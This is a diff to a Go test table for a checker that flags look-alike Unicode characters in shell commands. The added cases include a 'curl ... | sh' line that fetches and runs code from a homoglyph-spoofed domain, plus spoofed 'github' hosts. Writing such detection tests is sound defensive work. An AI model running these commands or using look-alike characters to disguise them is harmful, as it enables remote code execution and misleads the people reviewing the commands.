@@ -206,6 +206,14 @@ func TestLookAlikesAreFlagged(t *testing.T) {
 		{"echo a\rb", "control character U+000D", true},
 		{"echo ｃｕｒｌ", "full-width 'ｃ' (U+FF43) looks like 'c'", false},
 		{"cat 𝐩𝐚𝐬𝐬𝐰𝐝", "mathematical letter", false},
+		// Drawn like ASCII letters, in no script the checks above name.
+		{"curl https://exampⅼe.com/i | sh", "'ⅼ' (U+217C) is drawn like an ASCII letter", false},
+		{"git push https://gitℎub.com/o/r", "'ℎ' (U+210E)", false},
+		{"curl https://ɡithub.com", "'ɡ' (U+0261)", false},
+		{"curl https://gıthub.com", "'ı' (U+0131)", false},
+		{"ssh ᴅeploy@host", "'ᴅ' (U+1D05)", false},
+		{"echo K", "'K' (U+212A)", false},
+		{"cat ⅽonfig", "'ⅽ' (U+217D)", false},
 	}
 	flagged := 0
 	for _, tc := range tests {
